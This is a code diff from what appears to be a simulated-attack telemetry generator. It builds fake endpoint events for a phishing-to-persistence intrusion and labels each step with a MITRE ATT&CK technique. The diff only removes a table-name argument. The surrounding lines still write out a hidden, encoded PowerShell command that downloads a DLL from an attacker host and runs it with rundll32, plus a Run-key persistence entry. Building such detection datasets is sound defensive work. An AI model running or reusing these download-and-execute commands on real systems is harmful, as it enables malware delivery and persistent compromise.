@@ -26,7 +26,7 @@ export const encoded = (text: string): string => Buffer.from(text, 'utf16le').to
 export function execution({ world, roster }: Stage): Foothold {
   const desk = sessionAt(roster, ws11, at(14, '08:58:03'))
   const saved = touchFile(world, desk.outlook!, at(14, '08:58:03'), drawing)
-  note(world, 'main', 'Execution', 'T1204.002', 'The drawing is opened from the mail', 'DeviceFileEvents', saved)
+  note(world, 'main', 'Execution', 'T1204.002', 'The drawing is opened from the mail', saved)
   const word = spawn(
     world,
     desk.outlook!,
@@ -39,16 +39,16 @@ export function execution({ world, roster }: Stage): Foothold {
   const fetch = `$u='https://${hostile.payload.name}/assets/adj.bin';$p="$env:APPDATA\\Adjust\\adjsync.dll";Invoke-WebRequest $u -OutFile $p;rundll32 $p,Start`
   const shell = spawn(world, cmd, at(14, '08:58:48'), 'powershell.exe', `powershell -w hidden -ep bypass -enc ${encoded(fetch)}`)
   spawn(world, shell, at(14, '08:58:49'), 'conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1')
-  note(world, 'main', 'Execution', 'T1059.001', 'Word starts a shell and that an encoded PowerShell', 'DeviceProcessEvents', rowOf(shell))
+  note(world, 'main', 'Execution', 'T1059.001', 'Word starts a shell and that an encoded PowerShell', rowOf(shell))
   act(world, shell, at(14, '08:58:51'), 'AmsiScriptDetection', {}, { Description: fetch })
   const fetched = connect(world, shell, at(14, '08:58:53'), toHost(hostile.payload, 443, '/assets/adj.bin'))
-  note(world, 'main', 'CommandAndControl', 'T1105', 'The library is fetched', 'DeviceNetworkEvents', fetched)
+  note(world, 'main', 'CommandAndControl', 'T1105', 'The library is fetched', fetched)
   const dropped = touchFile(world, shell, at(14, '08:58:56'), loader, {
     origin: { url: `https://${hostile.payload.name}/assets/adj.bin`, ip: hostile.payload.ip },
   })
-  note(world, 'main', 'Execution', 'T1105', 'and written to the roaming profile', 'DeviceFileEvents', dropped)
+  note(world, 'main', 'Execution', 'T1105', 'and written to the roaming profile', dropped)
   const runner = spawn(world, shell, at(14, '08:58:59'), 'rundll32.exe', loaderLine)
-  note(world, 'main', 'DefenseEvasion', 'T1218.011', 'rundll32 runs it', 'DeviceProcessEvents', rowOf(runner))
+  note(world, 'main', 'DefenseEvasion', 'T1218.011', 'rundll32 runs it', rowOf(runner))
   loadImage(world, runner, at(14, '08:59:00'), loader)
   for (const clock of [
     '08:59:04',
@@ -68,13 +68,12 @@ export function execution({ world, roster }: Stage): Foothold {
       'CommandAndControl',
       'T1071.001',
       'The library calls home',
-      'DeviceNetworkEvents',
       connect(world, runner, at(14, clock), toHost(hostile.control)),
     )
 
   const key = `HKEY_CURRENT_USER\\${jonas.sid}\\${runKey}`
   const stays = touchRegistry(world, runner, at(14, '09:10:31'), { key, name: 'AdjustSync', data: loaderLine })
-  note(world, 'main', 'Persistence', 'T1547.001', 'A Run value starts it at each sign-in', 'DeviceRegistryEvents', stays)
+  note(world, 'main', 'Persistence', 'T1547.001', 'A Run value starts it at each sign-in', stays)
 
   const main = device(ws11, { roles: ['attacked', 'compromised'], verdict: 'malicious', detailedRoles: ['Main device'] })
   const who = user(jonas, { roles: ['compromised'], verdict: 'suspicious' })
